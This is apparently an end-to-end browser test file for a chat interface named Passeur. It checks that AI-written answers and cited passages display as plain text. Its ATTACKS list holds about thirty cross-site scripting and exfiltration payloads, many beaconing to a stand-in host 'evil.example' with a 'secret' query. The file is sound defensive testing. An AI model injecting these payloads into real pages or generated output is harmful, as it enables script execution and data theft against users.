"""Model text is text (P33 in short, CASES J6): nothing in it runs, loads or leaves, on any layer alone."""

import json

import pytest
from playwright.async_api import expect

from tests.e2e.conftest import Stage, ask, said
from tests.fakes.assistant import answering

pytestmark = [pytest.mark.service("chromium"), pytest.mark.asyncio(loop_scope="session")]

EVIL = "https://evil.example/?q=secret"
ATTACKS = (
    "<script>document.title='pwned'</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=\"document.title='pwned'\">",
    f"<img src='{EVIL}'>",
    f"![alt]({EVIL})",
    f"![alt][ref]\n\n[ref]: {EVIL}",
    f"<svg onload=\"document.title='pwned'\"><image href='{EVIL}'/></svg>",
    f"<svg><style>@import '{EVIL}';</style><use href='{EVIL}#x'/></svg>",
    f"<style>body{{background:url({EVIL})}}</style>",
    f"<p style=\"background:url('{EVIL}')\">x</p>",
    f"<link rel=stylesheet href='{EVIL}'><link rel=preload as=image href='{EVIL}'>",
    f"<link rel=dns-prefetch href='{EVIL}'><link rel=prefetch href='{EVIL}'>",
    f"<iframe src='{EVIL}'></iframe><iframe srcdoc=\"<script>parent.document.title='pwned'</script>\"></iframe>",
    f"<object data='{EVIL}'></object><embed src='{EVIL}'>",
    f"<video src='{EVIL}' poster='{EVIL}' autoplay></video><audio src='{EVIL}' autoplay></audio>",
    f"<form action='{EVIL}'><input autofocus onfocus=\"document.title='pwned'\"><button>x</button></form>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'><base href='{EVIL}'>",
    "<details open ontoggle=\"document.title='pwned'\"><summary>x</summary></details>",
    "<a href=\"javascript:document.title='pwned'\">x</a> [x](javascript:document.title='pwned')",
    "[x](data:text/html;base64,PHNjcmlwdD5kb2N1bWVudC50aXRsZT0ncHduZWQnPC9zY3JpcHQ+)",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<noscript><p title=\"</noscript><img src=x onerror=document.title='pwned'>\">",
    "<template><script>document.title='pwned'</script></template>",
    "<a ping='https://evil.example/ping' href='https://evil.example'>x</a>",
    "<p id=composer-field name=documentElement>clobber</p><form id=body></form>",
    f"<{'x' * 40} onpointerenter=alert(1) style='position:fixed;inset:0'>",
    f"<body onload=alert(1) background='{EVIL}'><table background='{EVIL}'><td background='{EVIL}'>x",
    f"<input type=image src='{EVIL}'><source srcset='{EVIL}'><picture><source srcset='{EVIL}'><img></picture>",
    "&lt;img src=x onerror=alert(1)&gt; <img src=x onerror=alert(1) //",
    f"<{EVIL}> www.evil.example ftp://evil.example",
)
FORBIDDEN = (
    ":is(script, img, svg, style, link, iframe, object, embed, video, audio, form, input, meta, base, template, "
    "details, [style], [id], [onload], [onerror], [onfocus], [ping], [src], [srcset], [background])"
)


async def inert(page):
    """Nothing active stands inside a message, beside our own icons, and nothing happened to the page."""
    assert await page.locator(f"passeur-message .message-body {FORBIDDEN}").count() == 0
    for link in await page.locator("passeur-message .message-body a[href]").all():
        assert (await link.get_attribute("href")).startswith(("https://", "http://", "mailto:"))
        assert "noreferrer" in await link.get_attribute("rel")
    assert await page.title() == "Passeur"


async def test_hostile_answers_neither_run_nor_send_while_streaming_or_when_whole(stage: Stage):
    text = "\n\n".join(ATTACKS)
    stage.assistant.script = lambda _: answering(text, pace_s=0.001, words=4)
    page = await (await stage.visitor()).tab()
    await ask(page, "\n".join(ATTACKS[:4]))
    await expect(said(page)).to_contain_text("www.evil.example")
    await inert(page)
    for word in ("<script>", "onerror", "javascript:"):
        await expect(said(page)).to_contain_text(word)  # shown as the text that it is
    await page.reload()
    await expect(said(page)).to_contain_text("www.evil.example")
    await inert(page)


async def test_the_page_alone_disarms_html_that_no_server_has_cleaned(stage: Stage):
    """The second wall: the server's sanitiser is taken away, and still nothing runs (ours)."""
    page = await (await stage.visitor()).tab()
    await ask(page, "Bonjour")
    await expect(said(page)).to_have_count(1)

    async def unclean(route):
        answer = await (await route.fetch()).json()
        for message in answer["messages"]:
            if message["role"] == "AI":
                message["html"] = "<p>début</p>" + "".join(ATTACKS) + "<p>fin</p>" + "".join(reversed(ATTACKS))
                message["kind"] = "answer"
        await route.fulfill(json=answer)

    await page.route("**/messages", unclean)
    await page.reload()
    await expect(said(page)).to_contain_text("début")
    await inert(page)


async def test_a_hostile_document_title_address_and_passage_stay_text(stage: Stage):
    page = await (await stage.visitor()).tab()
    hostile = {"title": ATTACKS[2], "heading": ATTACKS[0], "url": "javascript:alert(1)", "language": "fr"}
    passage = {"id": "x", "text": "\n\n".join(ATTACKS), "quote": ATTACKS[4], **hostile}
    await page.route("**/citations/*", lambda route: route.fulfill(body=json.dumps(passage)))
    await ask(page, "Que fait Passeur ?")
    await said(page).locator(".source").first.click()
    panel = page.get_by_role("dialog")
    await expect(panel.locator("mark")).to_have_text(ATTACKS[4])
    assert await panel.locator(f".passage-text {FORBIDDEN}").count() == 0
    assert await panel.locator("a").count() == 0
    assert await page.title() == "Passeur"
